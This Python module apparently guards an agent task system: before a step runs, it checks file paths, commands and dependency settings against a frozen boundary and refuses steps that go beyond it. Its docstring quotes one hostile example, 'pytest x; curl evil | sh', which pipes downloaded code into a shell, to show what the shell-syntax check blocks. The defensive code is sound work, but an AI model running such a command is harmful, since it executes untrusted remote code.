"""The pre-dispatch guard: a StepPack must stay inside the frozen boundary.

Negotiation freezes what the whole piece of work may touch (`BoundarySnapshot`). Before a step
is dispatched, `guard_violations` compares the pack with it and lists every place the pack steps
outside, by the pack's JSON path: a path pattern that opens files outside the boundary or
inside its forbidden part, a verification command the boundary does not allow, a dependency
policy wider than the boundary's. `enforce` raises `GuardRefused` with that list.

Commands: an allowed command is an exact string or an ``fnmatch`` pattern (``python -m pytest
*``). A command containing shell control syntax (``;``, ``&&``, ``|``, ``$(``, backticks,
redirections, newlines) must match an allowed entry exactly, so ``pytest *`` cannot admit
``pytest x; curl evil | sh``.
"""

from __future__ import annotations

import enum
import re
from collections.abc import Iterator, Sequence
from fnmatch import fnmatchcase

import msgspec
from msgspec import UNSET

from protocol import BoundarySnapshot, DependencyPolicy, StepPack

from .boundary import escapes
from .errors import GuardRefused
from .scope import ScopeRules
from .snapshot import verify_boundary

_SHELL_SYNTAX = re.compile(r"[;&|`<>\n\r]|\$\(")
_POLICY_FLAGS = (
    "allow_new_dependencies",
    "allow_lockfile_changes",
    "allow_dependency_manifest_changes",
    "allow_ci_changes",
    "allow_ci_workflow_changes_in_scope",
)


class ViolationKind(enum.StrEnum):
    PATH_OUTSIDE_BOUNDARY = "path_outside_boundary"
    PATH_FORBIDDEN_BY_BOUNDARY = "path_forbidden_by_boundary"
    COMMAND_NOT_ALLOWED = "command_not_allowed"
    DEPENDENCY_POLICY_WIDER = "dependency_policy_wider"


class Violation(msgspec.Struct, frozen=True):
    """One place the pack steps outside: `where` is its JSON path, `value` what it says there."""

    where: str
    kind: ViolationKind
    value: str
    detail: str

    def __str__(self) -> str:
        return f"{self.where} ({self.value!r}): {self.detail} [{self.kind.value}]"


def guard_violations(pack: StepPack, boundary: BoundarySnapshot) -> list[Violation]:
    """Every place `pack` steps outside `boundary` (empty when it stays inside), by the JSON
    path the pack used.

    Raises `SnapshotTampered` if the boundary no longer matches its frozen hash, and
    `ScopePatternError` for a glob (in the pack or the boundary) the matcher cannot use.
    """
    verify_boundary(boundary)
    view = pack.view
    return check_parts(
        scope=ScopeRules.of(view),
        commands=view.commands_to_run,
        policy=view.dependency_policy,
        policy_at=view.dependency_policy_at,
        boundary=boundary,
    )


def enforce(pack: StepPack, boundary: BoundarySnapshot) -> StepPack:
    """Return `pack` if it stays inside `boundary`, else raise `GuardRefused`."""
    violations = guard_violations(pack, boundary)
    if violations:
        raise GuardRefused(pack.task_id, violations, boundary.content_sha256)
    return pack


def check_parts(
    *,
    scope: ScopeRules,
    commands: Sequence[str],
    policy: DependencyPolicy | None,
    boundary: BoundarySnapshot,
    policy_at: str = "$.dependency_policy",
) -> list[Violation]:
    """The guard's rules on loose parts (negotiation checks each planned task with them)."""
    outer = ScopeRules(
        tuple(boundary.allowed_paths),
        tuple(boundary.forbidden_paths),
        allowed_at="boundary.allowed_paths",
        forbidden_at="boundary.forbidden_paths",
    )
    found = list(_path_violations(scope, outer))
    found += _command_violations(commands, boundary.allowed_commands)
    if policy is not None:
        found += _policy_violations(policy, boundary.dependency_policy, policy_at)
    return found


def _path_violations(inner: ScopeRules, outer: ScopeRules) -> Iterator[Violation]:
    for escape in escapes(inner, outer):
        where = f"{inner.allowed_at}[{escape.inner_index}]"
        if escape.forbidden_by is None:
            yield Violation(
                where,
                ViolationKind.PATH_OUTSIDE_BOUNDARY,
                escape.inner_pattern,
                f"allows {escape.path!r}, which no boundary allowed path covers",
            )
        else:
            yield Violation(
                where,
                ViolationKind.PATH_FORBIDDEN_BY_BOUNDARY,
                escape.inner_pattern,
                f"allows {escape.path!r}, which the boundary forbids ({escape.forbidden_by!r})",
            )


def command_allowed(command: str, allowed: Sequence[str]) -> bool:
    if command in allowed:
        return True
    if _SHELL_SYNTAX.search(command):
        return False
    return any(fnmatchcase(command, pattern) for pattern in allowed if _is_pattern(pattern))


def _is_pattern(entry: str) -> bool:
    return any(ch in entry for ch in "*?[")


def _command_violations(commands: Sequence[str], allowed: Sequence[str]) -> Iterator[Violation]:
    for i, command in enumerate(commands):
        if command_allowed(command, allowed):
            continue
        if not allowed:
            detail = "the boundary allows no commands"
        elif _SHELL_SYNTAX.search(command):
            detail = "contains shell control syntax and is not listed exactly in allowed_commands"
        else:
            detail = "matches no allowed_commands entry"
        yield Violation(
            f"$.commands_to_run[{i}]", ViolationKind.COMMAND_NOT_ALLOWED, command, detail
        )


def _policy_violations(
    policy: DependencyPolicy, frozen: DependencyPolicy, at: str
) -> Iterator[Violation]:
    if policy.mode == "allow-new-dependencies" and frozen.mode != "allow-new-dependencies":
        yield Violation(
            f"{at}.mode",
            ViolationKind.DEPENDENCY_POLICY_WIDER,
            policy.mode,
            f"the boundary's mode is {frozen.mode}",
        )
    for flag in _POLICY_FLAGS:
        if _on(getattr(policy, flag)) and not _on(getattr(frozen, flag)):
            yield Violation(
                f"{at}.{flag}",
                ViolationKind.DEPENDENCY_POLICY_WIDER,
                "true",
                "the boundary does not allow it",
            )


def _on(value: object) -> bool:
    return value is not UNSET and bool(value)
